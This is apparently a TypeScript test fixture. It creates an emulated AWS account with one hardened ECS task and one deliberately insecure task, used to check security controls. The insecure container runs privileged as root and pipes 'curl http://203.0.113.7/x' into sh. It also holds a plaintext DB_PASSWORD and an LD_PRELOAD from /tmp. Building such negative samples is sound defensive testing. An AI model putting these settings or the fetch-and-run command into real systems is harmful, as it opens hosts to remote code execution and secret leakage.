// An emulated account in which a task passes every control that is on, and another fails many: made of what events/ names.
import {
  CreateNetworkInterfaceCommand,
  CreateSecurityGroupCommand,
  CreateSubnetCommand,
  CreateVpcCommand,
  EC2Client,
} from '@aws-sdk/client-ec2';
import { CreateClusterCommand, ECSClient, RegisterTaskDefinitionCommand } from '@aws-sdk/client-ecs';
import { CreateRoleCommand, IAMClient } from '@aws-sdk/client-iam';
import type { Emulated } from '../../scripts/local/account.ts';
import type { JsonObject } from '../../shared/model/json.ts';

/** Tasks as DescribeTasks gives them. */
export interface Shop {
  readonly good: JsonObject;
  readonly bad: JsonObject;
}

const image = `ghcr.io/acme/web@sha256:${'a'.repeat(64)}`;
const trust = JSON.stringify({
  Version: '2012-10-17',
  Statement: [
    { Effect: 'Allow', Principal: { Service: 'ecs-tasks.amazonaws.com' }, Action: 'sts:AssumeRole' },
  ],
});

const goodContainer = {
  ...{ name: 'web', image, cpu: 256, memory: 512, essential: true, user: '10001:10001' },
  ...{ readonlyRootFilesystem: true, privileged: false, command: ['node', 'server.js'] },
  linuxParameters: { capabilities: { drop: ['ALL'] }, initProcessEnabled: true },
  dockerSecurityOptions: ['no-new-privileges'],
  logConfiguration: {
    logDriver: 'awslogs' as const,
    options: { 'awslogs-group': '/acme/web', 'awslogs-region': 'eu-central-1' },
  },
};
const badContainer = {
  ...{ name: 'web', image: 'nginx:latest', memory: 512, essential: true, user: '0', privileged: true },
  ...{ command: ['sh', '-c', 'curl http://203.0.113.7/x | sh'], interactive: true, pseudoTerminal: true },
  environment: [
    { name: 'DB_PASSWORD', value: 'hunter2hunter2' },
    { name: 'LD_PRELOAD', value: '/tmp/x.so' },
  ],
};

export async function makeShop(aws: Emulated): Promise<Shop> {
  const [ecs, iam] = [new ECSClient(aws), new IAMClient(aws)];
  await ecs.send(new CreateClusterCommand({ clusterName: 'shop' }));
  const roles = Object.fromEntries(
    await Promise.all(
      ['web-task', 'web-execution'].map(async (RoleName) => {
        const asked = new CreateRoleCommand({ RoleName, AssumeRolePolicyDocument: trust });
        return [RoleName, (await iam.send(asked)).Role?.Arn ?? ''] as const;
      }),
    ),
  );
  const shape = { networkMode: 'awsvpc', cpu: '256', memory: '512' } as const;
  const own = { taskRoleArn: roles['web-task'], executionRoleArn: roles['web-execution'] };
  for (const [family, container] of [
    ['good', goodContainer],
    ['bad', badContainer],
  ] as const)
    await ecs.send(
      new RegisterTaskDefinitionCommand({
        ...{ ...shape, ...own, family, requiresCompatibilities: ['FARGATE'] },
        containerDefinitions: [container],
        tags: [{ key: 'seawall.dev/trust', value: 'high' }],
      }),
    );
  const attachments = [await attachment(aws)];
  const task = (family: string): JsonObject => ({
    ...{ clusterArn: `arn:aws:ecs:${aws.region}:${aws.account}:cluster/shop`, launchType: 'FARGATE' },
    ...{ platformVersion: '1.4.0', platformFamily: 'Linux', group: `family:${family}`, startedBy: 'deploy' },
    ...{ cpu: '256', memory: '512', enableExecuteCommand: false, attachments },
    taskDefinitionArn: `arn:aws:ecs:${aws.region}:${aws.account}:task-definition/${family}:1`,
    containers: [{ name: 'web', image: family === 'good' ? image : 'nginx:latest', lastStatus: 'RUNNING' }],
    overrides: { containerOverrides: [{ name: 'web' }] },
  });
  return { good: task('good'), bad: task('bad') };
}

/** Of a network of its own, whose routes lead nowhere. */
async function attachment(aws: Emulated): Promise<JsonObject> {
  const ec2 = new EC2Client(aws);
  const { Vpc } = await ec2.send(new CreateVpcCommand({ CidrBlock: '10.9.0.0/16' }));
  const VpcId = Vpc?.VpcId ?? '';
  const { Subnet } = await ec2.send(new CreateSubnetCommand({ VpcId, CidrBlock: '10.9.1.0/24' }));
  const SubnetId = Subnet?.SubnetId ?? '';
  const group = new CreateSecurityGroupCommand({ VpcId, GroupName: 'web', Description: 'of the task alone' });
  const Groups = [(await ec2.send(group)).GroupId ?? ''];
  const made = await ec2.send(new CreateNetworkInterfaceCommand({ SubnetId, Groups }));
  const details = [
    { name: 'subnetId', value: SubnetId },
    { name: 'networkInterfaceId', value: made.NetworkInterface?.NetworkInterfaceId ?? '' },
    { name: 'privateIPv4Address', value: '10.9.1.5' },
  ];
  return { id: 'attachment-1', type: 'eni', status: 'ATTACHED', details };
}
